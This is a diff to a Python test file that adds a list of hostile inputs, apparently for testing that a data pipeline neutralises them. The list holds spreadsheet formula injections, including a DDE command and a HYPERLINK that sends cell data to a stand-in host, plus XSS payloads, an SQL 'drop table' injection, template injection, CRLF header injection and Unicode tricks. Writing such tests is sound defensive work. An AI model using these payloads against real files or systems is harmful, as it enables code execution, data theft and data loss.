@@ -22,6 +22,27 @@ REAL_FILES = {
     "services_publics_plus_structures.csv": "structures",
     "perceval_sample.json": "perceval",
 }
+# What people may write, or name a file, to have it run by whoever reads it: a shell, a spreadsheet,
+# a browser, a database, a template.
+HOSTILE = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://ailleurs.example/?"&A1;"lire")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "<script>window.hostile = 1</script>",
+    "\"><img data-hostile src=x onerror='window.hostile = 1'>",
+    "<svg/onload=window.hostile=1>",
+    "[lire](javascript:window.hostile=1)",
+    "'; drop table marts.fct_avis; --",
+    "{{ env_var('DAGSTER_HOME') }}",
+    "${window.hostile = 1}{@html 1}{window.hostile = 1}",
+    "mot" * 400,
+    "\u202eenvers\u202c\u200b\ufeff sans\u2060largeur",
+    "%00%0d%0aSet-Cookie: a=1",
+    "👩‍👩‍👧 ﷽ Z̸̛͓a̴l̵g̶o",
+)
 
 
 @pytest.fixture
